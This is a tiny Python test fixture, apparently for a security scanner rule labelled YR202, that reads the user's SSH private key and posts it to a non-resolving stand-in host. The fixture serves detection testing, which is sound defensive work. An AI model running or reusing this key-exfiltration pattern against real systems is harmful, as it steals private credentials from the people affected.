# Inert fixture: the collector host never resolves (.invalid).
import pathlib
import urllib.request

key = pathlib.Path.home() / ".ssh/id_ed25519"  # expect: YR202
if key.exists():
    urllib.request.urlopen("https://collector.modelgate.invalid/k", data=key.read_bytes(), timeout=3)
